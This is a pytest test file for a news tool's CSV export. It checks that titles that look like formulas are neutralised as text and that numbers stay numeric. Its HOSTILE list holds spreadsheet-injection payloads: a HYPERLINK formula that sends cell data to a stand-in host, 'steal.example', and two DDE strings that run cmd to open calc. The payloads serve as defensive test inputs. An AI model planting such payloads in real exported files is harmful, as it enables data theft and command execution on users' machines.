"""CSV for people: whatever the news says, a spreadsheet computes nothing of it, and numbers stay numbers."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from flows.cli.app import run_command
from flows.cli.spreadsheet import spreadsheet_cell
from tests.flows.dumps import read_in, story, write_dump

HOSTILE = [
    '=HYPERLINK("https://steal.example/?"&A1,"Click")',
    "+1 for the council",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]
HARMLESS = ['The mayor said "no", twice', "a = b", "Rates; =1+1", "Nordic: Ærø, 5 €"]


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a lake of titles like formulas, and with a reject that begins with a tab."""
    stories = [story(number, title=title) for number, title in enumerate([*HOSTILE, *HARMLESS])]
    far_west = story(20, date="2024-05-02T10:00:00-05:00")
    read_in(tmp_path / "lake", write_dump(tmp_path / "dump" / "a.jsonl", [*stories, far_west, '\t{"=1+1']))
    monkeypatch.chdir(tmp_path)
    return tmp_path


def shown(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[str, list[dict[str, str]]]:
    """What a command printed, and its rows as any program reads CSV."""
    assert run_command(arguments) == 0
    out = capsys.readouterr().out
    return out, list(csv.DictReader(io.StringIO(out, newline=""), strict=True))


def test_titles_like_formulas_are_text(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, rows = shown(capsys, "show", "articles", "--csv", "--columns", "native_id,title", "--where", "native_id <> 'n20'")
    titles = {row["native_id"]: row["title"] for row in rows}
    assert [titles[f"n{number}"] for number in range(len(HOSTILE))] == [f"'{title}" for title in HOSTILE]
    assert [titles[f"n{number}"] for number in range(len(HOSTILE), len(titles))] == HARMLESS


def test_no_cell_of_any_table_is_a_formula(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for table in ("articles", "mentions", "rejects", "sightings", "loads", "snapshots"):
        _, rows = shown(capsys, "show", table, "--csv", "--columns", "all")
        assert rows
        for name, cell in ((name, cell) for row in rows for name, cell in row.items()):
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n")), (table, name, cell)
            assert not cell.startswith("-") or cell[1:].isdecimal(), (table, name, cell)
    (excerpt,) = [row["excerpt"] for row in shown(capsys, "show", "rejects", "--csv", "--columns", "excerpt")[1]]
    assert excerpt == "'\t{\"=1+1"


def test_numbers_stay_numbers_and_every_text_is_quoted(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out, _ = shown(
        capsys,
        "show",
        "articles",
        "--csv",
        "-c",
        "native_id,published_utc_offset_min,published_on,url",
        "-w",
        "native_id = 'n20'",
    )
    assert out == '"native_id","published_utc_offset_min","published_on","url"\r\n"n20",-300,"2024-05-02",""\r\n'


def test_a_calendar_for_a_spreadsheet(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out, rows = shown(capsys, "upcoming", "--csv")
    assert rows == []
    assert out.startswith('"due","due_end",')


def test_a_calendar_without_dated_news_has_a_header(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    read_in(tmp_path / "lake", write_dump(tmp_path / "dump" / "a.jsonl", [story(1, date=None)]))
    monkeypatch.chdir(tmp_path)
    out, rows = shown(capsys, "upcoming", "--csv")
    assert rows == []
    assert out.startswith('"due","due_end",')


def test_one_form_at_a_time(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for command in (("show", "articles"), ("upcoming",)):
        assert run_command([*command, "--json", "--csv"]) == 2
        assert capsys.readouterr().err == "dateline: expected --json or --csv, got both\n"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("", ""),
        (" =1", " =1"),
        (-0.5, -0.5),
        (-3, -3),
        ("-3", "'-3"),
        (True, "true"),
        (None, None),
    ],
)
def test_what_a_cell_becomes(value: Any, cell: Any) -> None:
    assert spreadsheet_cell(value) == cell
